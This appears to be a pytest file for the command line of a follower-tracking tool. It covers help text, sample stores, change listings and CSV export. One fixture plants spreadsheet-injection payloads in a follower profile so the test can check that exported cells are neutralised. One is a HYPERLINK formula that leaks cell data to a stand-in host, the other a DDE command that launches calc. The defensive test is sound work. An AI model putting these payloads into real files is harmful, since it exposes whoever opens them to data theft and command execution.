"""The command line: help, the sample, the store summary, and errors as one clear line."""

from __future__ import annotations

import json
import re

import click
from click.testing import CliRunner

from follower_kit import ingest
from follower_kit.cli import main


def run(*args, env=None):
    result = CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)
    return result


def test_help_lists_every_area():
    out = run("--help").output
    for command in ("sample", "demo", "store"):
        assert command in out
    assert "sample audience" in out


# Commands that never read or write the store (they work on files or serve the sample).
NO_STORE = {"fake-server", "bots evaluate", "bots train", "topics evaluate", "ages evaluate",
            "ages fit"}


def test_every_command_has_help_and_a_store_option():
    def walk(group, prefix):
        for name, cmd in group.commands.items():
            yield [*prefix, name], cmd
            if hasattr(cmd, "commands"):
                yield from walk(cmd, [*prefix, name])

    for path, cmd in walk(main, []):
        result = run(*path, "--help")
        assert result.exit_code == 0, path
        assert cmd.help or cmd.short_help, f"{' '.join(path)} has no help text"
        if not hasattr(cmd, "commands") and " ".join(path) not in NO_STORE:
            params = {p.name for p in cmd.params}
            assert "store_dir" in params or "store" in params, f"{' '.join(path)} lacks --store"


def test_every_command_shows_an_example_and_explains_every_option():
    """Users copy the example lines of --help; fake-server's --account, --followers, --seed and
    --port said nothing, and sixteen commands showed no example."""
    def leaves(group, prefix):
        for name, cmd in group.commands.items():
            if hasattr(cmd, "commands"):
                yield from leaves(cmd, [*prefix, name])
            else:
                yield [*prefix, name], cmd

    for path, cmd in leaves(main, []):
        out = run(*path, "--help").output
        example = re.search(rf"^\s+follower-kit {' '.join(path)}\b", out, re.M)
        parent = run(*path[:-1], "--help").output if len(path) > 1 else ""
        assert example or re.search(rf"^\s+follower-kit {' '.join(path)}\b", parent, re.M), \
            f"`{' '.join(path)} --help` shows no example line"
        for p in cmd.params:
            if isinstance(p, click.Option) and p.name != "help":
                assert p.help, f"{' '.join(path)} {p.opts[0]} has no help text"


def test_row_counts_refuse_a_negative_number(sample_store):
    """`bots score --top -3` printed every follower but three (pandas' head(-3))."""
    for command in (["bots", "score", "brightwave"], ["topics", "segment", "brightwave"]):
        out = run(*command, "--top", "-3", "--store", str(sample_store.path))
        assert out.exit_code == 2 and "'--top-n' / '--top'" in out.output \
            and ">=0" in out.output, out.output


def test_sample_then_store_info(tmp_path):
    store = str(tmp_path / "s")
    result = run("sample", "--store", store, "--followers", "200", "--months", "3")
    assert result.exit_code == 0, result.output
    assert "3 monthly snapshots" in result.output and "200 followers" in result.output
    again = run("sample", "--store", store, "--followers", "200", "--months", "3")
    assert "(0 new)" in again.output
    info = json.loads(run("store", "info", "--json", "--store", store).output)
    snaps = info["accounts"][0]["snapshots"]
    assert info["accounts"][0]["username"] == "brightwave" and len(snaps) == 3
    assert snaps[-1]["followers"] == 200
    table = run("store", "info", "--store", store).output
    assert "@brightwave" in table and "200" in table


def test_store_from_environment(tmp_path):
    store = str(tmp_path / "env-store")
    run("sample", "--followers", "50", "--months", "2", env={"FOLLOWER_KIT_STORE": store})
    info = json.loads(run("store", "info", "--json", env={"FOLLOWER_KIT_STORE": store}).output)
    assert info["store"] == store and info["accounts"]


def test_errors_are_one_clear_line(tmp_path):
    blocker = tmp_path / "f"
    blocker.write_text("x")
    result = CliRunner().invoke(main, ["sample", "--followers", "20", "--months", "1",
                                       "--store", str(blocker / "store")])
    assert result.exit_code == 1, result.output
    assert "error: cannot write to the store directory" in result.stderr
    assert "Traceback" not in result.output


def test_changes_lists_who_came_and_left_with_profiles(sample_store, tmp_path):
    """`changes` prints the same people as Store.diff, newest first, and --csv keeps them all."""
    import pandas as pd

    where = ["--store", str(sample_store.path)]
    diff = sample_store.diff("brightwave")
    new, lost = (diff[diff["change"] == c] for c in ("new", "lost"))
    out = run("changes", "brightwave", "--limit", "3", *where).output
    assert f"{len(new):,} new and {len(lost):,} lost between 2026-09-30" in out
    handles = [line.split()[0] for line in out.splitlines() if line.startswith("  @")]
    assert handles == [f"@{h}" for h in [*new["username"][:3], *lost["username"][:3]]]
    assert f"... {len(new) - 3:,} more" in out
    csv = tmp_path / "changes.csv"
    out = run("changes", "brightwave", "--before", "2026-06", "--csv", str(csv), *where).output
    wide = sample_store.diff("brightwave", before="2026-06")
    written = pd.read_csv(csv, dtype={"id": str})
    assert sorted(written["id"]) == sorted(wide["id"]) and "description" in written.columns
    assert f"{len(wide):,} changes with their profiles -> {csv}" in out
    for before, after in (("2026-10", "2026-06"), ("2026-10", "2026-10")):
        bad = run("changes", "brightwave", "--before", before, "--after", after, *where)
        assert bad.exit_code == 1 and "need an earlier snapshot first" in bad.output
    records = json.loads(run("changes", "brightwave", "--json", *where).output)
    assert len(records) == len(diff) and {r["change"] for r in records} == {"new", "lost"}


def test_changes_on_an_archive_names_followers_as_the_report_does(archive_store):
    """An archive has no profiles: `changes` printed every lost follower as 'id N (no profile in
    the store)' while the report names them from the handles the own posts give them."""
    from follower_kit import audience

    where = ["--store", str(archive_store.path)]
    out = run("changes", "larsbrinkhoff", "--limit", "0", *where)
    assert out.exit_code == 0, out.output
    lost_part = out.output.split("\nLost followers")[1]
    # the report's list: MonthData.lost_followers of the same two snapshots, named first
    lost = audience.load_snapshot("larsbrinkhoff", store=archive_store).lost_followers
    named = lost.dropna(subset=["username"])
    assert len(named) and len(named) < len(lost)
    printed = [line.split()[0] for line in lost_part.splitlines() if line.startswith("  @")]
    assert printed == [f"@{h}" for h in named["username"]]
    for follower_id in named["id"]:
        assert f"id {follower_id} " not in out.output
    assert "named in your posts; no profile in the store" in lost_part
    assert f"id {lost[lost['username'].isna()]['id'].iloc[0]} (no profile" in lost_part


def test_csv_and_chart_files_go_into_a_new_folder_and_a_folder_name_is_refused(sample_store,
                                                                              tmp_path):
    """`changes --csv new/changes.csv` raised a traceback (pandas: 'Cannot save file into a
    non-existent directory'), and `--csv out/` one more (IsADirectoryError), after the work."""
    where = ["--store", str(sample_store.path)]
    csv = tmp_path / "new" / "deeper" / "changes.csv"
    out = run("changes", "brightwave", "--limit", "1", "--csv", str(csv), *where)
    assert out.exit_code == 0 and csv.exists(), out.output
    out = run("compare", "brightwave", "datadock", "--csv", str(tmp_path / "c" / "pairs.csv"),
              "--chart", str(tmp_path / "c" / "grid.png"), *where)
    assert out.exit_code == 0 and {p.name for p in (tmp_path / "c").iterdir()} == {
        "pairs.csv", "grid.png"}, out.output
    for command in (["changes", "brightwave"], ["triage", "brightwave"]):
        bad = run(*command, "--csv", str(tmp_path / "out") + "/", *where)
        assert bad.exit_code == 2 and "names a folder; give a file in it, e.g. " \
            f"{tmp_path / 'out'}/{command[0]}.csv" in bad.output, bad.output
    assert not (tmp_path / "out").exists()


HOSTILE_CELLS = {"name": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
                 "description": "@SUM(1+1)*cmd|' /C calc'!A0", "location": "+1 555 0100"}


def _archive_with_a_hostile_newcomer(tmp_path):
    """The real archive's first two exports, the second one's followers given profiles, one of
    them written by someone who knows spreadsheets."""
    import pandas as pd

    from conftest import shared_path
    from follower_kit import Store
    from follower_kit.sources import archive

    store = Store(tmp_path / "store")
    for path in archive.archives_in(shared_path("x-archive", "larsbrinkhoff"))[:2]:
        ingest.import_archive(store, path)
    diff = store.diff("larsbrinkhoff")
    ids = list(store.followers("larsbrinkhoff")["id"])
    profiles = pd.DataFrame({"id": ids, "username": [f"u{i}" for i in ids], "name": "Someone",
                             "description": "plain bio", "location": "Earth"})
    hostile = diff.loc[diff["change"] == "new", "id"].iloc[0]
    for column, value in HOSTILE_CELLS.items():
        profiles.loc[profiles["id"] == hostile, column] = value
    store.add_profiles("larsbrinkhoff", profiles)
    return store, hostile


def _cells(path):
    import csv

    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_changes_csv_cannot_run_as_a_spreadsheet_formula(tmp_path):
    """A follower named =HYPERLINK(...) must open in Excel as text, as in the report's CSV."""
    store, hostile = _archive_with_a_hostile_newcomer(tmp_path)
    csv_path = tmp_path / "changes.csv"
    out = run("changes", "larsbrinkhoff", "--csv", str(csv_path), "--store", str(store.path))
    assert out.exit_code == 0, out.output
    rows = _cells(csv_path)
    row = next(r for r in rows if r["id"] == hostile)
    for column, value in HOSTILE_CELLS.items():
        assert column not in row or row[column] == "'" + value
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@"]


def test_first_snapshot_messages_name_the_account_and_count_in_words(tmp_path):
    """One snapshot of the real archive, one of a sample: messages say @handle (never the
    numeric id or a bare name), '1 snapshot' (never 'snapshot(s)'), and show no 'new' column
    when nobody can be new yet."""
    from conftest import shared_path
    from follower_kit import Store

    archive_store = Store(tmp_path / "archive")
    ingest.import_archive(archive_store, shared_path("x-archive", "larsbrinkhoff", "2021-03-22"))
    where = ["--store", str(archive_store.path)]
    out = run("changes", "larsbrinkhoff", *where)
    assert out.exit_code == 1
    assert "@larsbrinkhoff has no snapshot before 2021-03-22" in out.output
    assert "3128746474" not in out.output
    out = run("changes", "larsbrinkhoff", "--after", "2020-01", *where)
    assert out.exit_code == 1 and "@larsbrinkhoff has no snapshot at or before 2020-01" in \
        out.output and "3128746474" not in out.output
    info = run("store", "info", *where).output
    assert "1 snapshot\n" in info and "(s)" not in info

    sample = str(tmp_path / "sample")
    assert run("sample", "--followers", "120", "--months", "1", "--store", sample).exit_code == 0
    out = run("topics", "brightwave", "--top", "0", "--store", sample).output
    assert "120 followers of @brightwave at 2026-10-31" in out
    head = next(line for line in out.splitlines() if line.strip().startswith("seg"))
    assert head.split()[-1] != "new" and " new" not in head
    out = run("bots", "score", "brightwave", "--top", "0", "--store", sample).output
    assert "followers of @brightwave at" in out and "(s)" not in out
    assert re.search(r"; (no farm|1 farm|[0-9,]+ farms) found", out)
    # a first snapshot: nobody is new, and the check-out list says why once, under its title
    out = run("triage", "brightwave", "--store", sample).output
    assert ("Worth checking out: notable new followers (0)\n"
            "  (nobody can be new yet: this is the first snapshot on record)") in out



def _one_follower_archive(folder):
    """A minimal X archive: one follower, not followed back, no tweets, no profile."""
    folder.mkdir()
    manifest = {"userInfo": {"accountId": "1690000000000000002", "userName": "one_fan_99",
                             "displayName": "One Fan"},
                "archiveInfo": {"generationDate": "2023-08-20T11:06:14.174Z"},
                "dataTypes": {"follower": {"files": [{"fileName": "data/follower.js",
                                                      "globalName": "YTD.follower.part0",
                                                      "count": "1"}]}}}
    (folder / "manifest.js").write_text("window.__THAR_CONFIG = " + json.dumps(manifest))
    (folder / "follower.js").write_text(
        'window.YTD.follower.part0 = [{"follower": {"accountId": "40120521"}}]')
    return folder


def test_one_follower_is_counted_in_the_singular(tmp_path):
    # every message said "1 followers" (import, triage, audience, ages show) and bots score
    # "none of the 1 followers ... has a profile"
    arc = _one_follower_archive(tmp_path / "arc")
    where = ["--store", str(tmp_path / "store")]
    out = run("import", "archive", str(arc), *where)
    assert out.exit_code == 0, out.output
    assert f"{arc}: 1 follower at 2023-08-20 11:06 UTC (imported)" in out.output
    said = {c: run(*c.split(), "one_fan_99", *where).output
            for c in ("triage", "audience", "ages show", "bots score", "topics")}
    assert "1 follower is known by id only (no profile), so it is left out" in said["triage"]
    assert "1 follower is known by id only: countries" in said["audience"]
    assert "1 follower at 2023-08-20; 1 creation date estimated from ids" in said["ages show"]
    for c in ("bots score", "topics"):
        assert "the one follower of @one_fan_99 has no profile in the store" in said[c]
    assert not any("1 followers" in text for text in said.values())


def test_triage_on_rules_scores_says_the_block_evidence_is_the_models(sample_store, tmp_path):
    """Scores stored by `bots score --rules` carry no bot kind: the model's measured share of
    people on a block list does not apply to them. triage said nothing at all there; it now
    says why, and says the measured share on the model's own scores."""
    import shutil

    from click.testing import CliRunner

    from follower_kit.cli import main

    shutil.copytree(sample_store.path, tmp_path / "store")
    where = ["--store", str(tmp_path / "store")]

    def block_part(output):
        return output.split("\nLikely bots and spam to block", 1)[1].split("\n\n", 1)[0]

    run = CliRunner().invoke
    assert run(main, ["bots", "score", "brightwave", *where]).exit_code == 0
    model = block_part(run(main, ["triage", "brightwave", *where]).output)
    assert "of those on such a list" in model and "hand-set rules" not in model
    scored = run(main, ["bots", "score", "brightwave", "--rules", *where])
    assert scored.exit_code == 0, scored.output
    rules = block_part(run(main, ["triage", "brightwave", *where]).output)
    assert "Scored by the hand-set rules" in rules and "of those on such a list" not in rules


def test_python_dash_m_follower_kit_is_the_command_line(tmp_path):
    """`python -m follower_kit` (README) said "'follower_kit' is a package and cannot be
    directly executed": only `python -m follower_kit.cli` worked."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": str(root), "FOLLOWER_KIT_STORE": str(tmp_path / "s")}
    done = subprocess.run([sys.executable, "-m", "follower_kit", "store", "info"], env=env,
                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"{tmp_path / 's'}: empty."), done.stdout
